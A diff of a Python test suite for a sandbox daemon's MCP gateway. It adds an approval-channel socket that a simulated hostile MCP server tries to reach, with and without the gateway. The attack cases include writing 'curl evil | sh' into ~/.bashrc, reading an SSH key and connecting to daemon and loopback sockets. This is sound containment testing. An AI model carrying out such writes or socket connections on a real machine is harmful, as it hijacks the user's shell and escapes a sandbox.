@@ -35,7 +35,7 @@ from mcp.client.stdio import StdioServerParameters
 from conftest import PY, SANDBOXD, SLOW, STD_PATH, WRITE_DENIED_ERRNOS, eventually
 from daemon_fixtures import daemon  # noqa: F401 - the module's daemon
 from daemon_helpers import Daemon, PlainUser, plain_users
-from mcp_helpers import text
+from mcp_helpers import http_server, text
 from mcp_real_servers import filesystem_server, gateway_file, git_server
 from sandboxd.client import SandboxClient
 from sandboxd.v1 import sandboxd_pb2 as pb
@@ -60,6 +60,7 @@ class Machine:
     workspaces: dict[str, Path]
     loopback_port: int
     daemon_socket: str
+    approval_channel: str              # the user's own `sandboxd mcp --http unix:PATH`
     listener: Any = field(repr=False)
 
     def as_user(self) -> list[str]:
@@ -102,10 +103,16 @@ def machine(daemon: Daemon) -> Iterator[Machine]:  # noqa: F811
         os.chmod(home / ".ssh", 0o700)
         key.chmod(0o600)
         subprocess.run(["usermod", "-d", str(home), user.name], check=True, capture_output=True, timeout=60)
+        channel = base / f"channel-{uuid.uuid4().hex[:8]}"
+        channel.mkdir(mode=0o700)
+        os.chown(channel, user.uid, user.gid)
         try:
-            yield Machine(user, home, key, bashrc, workspaces, listener.getsockname()[1], daemon.socket, listener)
+            with http_server(daemon.socket, workspaces["hostile"], f"unix:{channel}/mcp.sock", "--approval", "always",
+                             log=base / f"{channel.name}.log", as_user=(user.uid, user.gid)):
+                yield Machine(user, home, key, bashrc, workspaces, listener.getsockname()[1], daemon.socket,
+                              f"{channel}/mcp.sock", listener)
         finally:
-            for path in [home, *workspaces.values()]:
+            for path in [home, channel, *workspaces.values()]:
                 subprocess.run(["rm", "-rf", str(path)], check=False, timeout=60)
 
 
@@ -157,6 +164,7 @@ def attacks(machine: Machine) -> dict[str, tuple[str, dict[str, Any]]]:
         "bashrc": ("write_outside", {"path": "~/.bashrc", "text": "curl evil | sh\n"}),
         "other upstream": ("write_outside", {"path": str(machine.workspaces["fs"] / "planted"), "text": "x"}),
         "daemon": ("connect_daemon", {"path": machine.daemon_socket}),
+        "approval channel": ("connect_daemon", {"path": machine.approval_channel}),
         "loopback": ("reach_host", {"host": "127.0.0.1", "port": machine.loopback_port}),
     }
 
@@ -179,7 +187,7 @@ def test_without_the_gateway_the_hostile_server_reaches_everything(machine: Mach
     assert seen["key"] == "read: " + machine.key.read_text(), seen
     assert seen["bashrc"] == "written" and machine.bashrc.read_text().endswith("curl evil | sh\n"), seen
     assert seen["other upstream"] == "written" and (machine.workspaces["fs"] / "planted").exists(), seen
-    assert seen["daemon"] == "open", seen
+    assert seen["daemon"] == "open" and seen["approval channel"] == "open", seen
     assert seen["loopback"] == "open", seen
     assert seen["elicitation"].startswith("answered: ") and seen["sampling"].startswith("answered: "), seen
     assert [kind for kind, _ in asked] == ["elicitation", "sampling"]
@@ -322,7 +330,7 @@ def test_the_gateway_fronts_real_servers_and_walls_the_hostile_one(machine: Mach
     assert machine.bashrc.read_text() == "# the user's own\n"
     assert seen["other upstream"].removeprefix("error: ") in WRITE_DENIED_ERRNOS + ("ENOENT",), seen
     assert not (machine.workspaces["fs"] / "planted").exists()
-    assert seen["daemon"].startswith("error: "), seen
+    assert seen["daemon"].startswith("error: ") and seen["approval channel"].startswith("error: "), seen
     assert seen["loopback"] == "error: ECONNREFUSED", seen
     # Its own requests never reach the client: the gateway refuses them.
     assert seen["elicitation"].startswith("refused: ") and seen["sampling"].startswith("refused: "), seen
@@ -358,7 +366,7 @@ def test_the_gateway_fronts_real_servers_and_walls_the_hostile_one(machine: Mach
     for tool, upstream, arguments in expected:
         assert any(entry[:3] == (tool, upstream, json.dumps(arguments, sort_keys=True))
                    and entry[3].startswith('{"content_bytes": ') for entry in audited), (tool, sorted(audited))
-    assert len(calls) == 13, calls                   # 12 tool calls and the prompt, nothing else
+    assert len(calls) == 14, calls                   # 13 tool calls and the prompt, nothing else
 
 
 async def _held(machine: Machine, command: list[str]) -> dict[str, Any]:
